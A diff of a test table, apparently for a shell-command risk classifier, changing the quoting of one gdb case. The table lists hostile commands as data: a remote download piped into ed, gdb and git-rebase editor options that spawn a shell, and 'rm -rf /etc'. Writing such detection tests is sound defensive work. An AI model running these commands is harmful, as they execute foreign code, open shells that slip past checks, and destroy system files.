@@ -36,7 +36,7 @@ describe('everyday commands that look like others are not asked about', () => {
     ['curl https://x.example/e | ed -s file', 'foreign-code'],
     ['vim -s keys file', 'executing-option'],
     ['gdb -batch -ex "run; sh" ./app', 'executing-option'],
-    ['gdb -batch -ex "run $(sh)" ./app', 'executing-option'],
+    ["gdb -batch -ex 'run $(sh)' ./app", 'executing-option'],
     ['gdb -batch -ex run --args rm -rf /etc', 'destruction'],
     ['GIT_SEQUENCE_EDITOR="sed -i 1iexec\\ sh" git rebase -i HEAD', 'executing-option'],
     ['GIT_SEQUENCE_EDITOR="sed -i \'1i x sh\'" git rebase -i HEAD', 'executing-option'],
